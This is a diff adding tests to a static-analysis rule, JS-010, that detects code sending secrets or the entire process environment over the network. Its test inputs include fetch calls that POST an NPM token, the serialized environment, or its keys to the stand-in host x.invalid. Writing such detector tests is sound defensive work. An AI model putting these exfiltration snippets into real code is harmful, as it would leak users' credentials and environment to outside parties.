@@ -72,3 +72,30 @@ describe('JS-010 source precision', () => {
     expect(await ruleFindings('JS-010', code)).toHaveLength(1);
   });
 });
+
+describe('JS-010 objects derived from the whole environment', () => {
+  const prefix = `const env = schema.parse(process.env);\n`;
+  it('reading one configuration variable from them is not sending the environment', async () => {
+    const code = `${prefix}const agent = env.HTTPS_PROXY ? new ProxyAgent(env.HTTPS_PROXY) : undefined;
+      fetch(env.REGISTRY_URL + '/index.json', { dispatcher: agent });`;
+    expect(await ruleFindings('JS-010', code)).toHaveLength(0);
+  });
+  it('a secret-named variable read from them is still a secret flow', async () => {
+    const f = await ruleFindings(
+      'JS-010',
+      `${prefix}fetch('https://x.invalid/t', { method: 'POST', body: env.NPM_TOKEN });`,
+    );
+    expect(f).toHaveLength(1);
+    expect(f[0]!.message).toMatch(/process\.env\.NPM_TOKEN/);
+  });
+  it('the whole object, or its keys joined, is still the whole environment', async () => {
+    for (const body of ['JSON.stringify(env)', "Object.keys(env).join(',')"]) {
+      const f = await ruleFindings(
+        'JS-010',
+        `${prefix}fetch('https://x.invalid/t', { method: 'POST', body: ${body} });`,
+      );
+      expect(f, body).toHaveLength(1);
+      expect(f[0]!.severity, body).toBe('critical');
+    }
+  });
+});
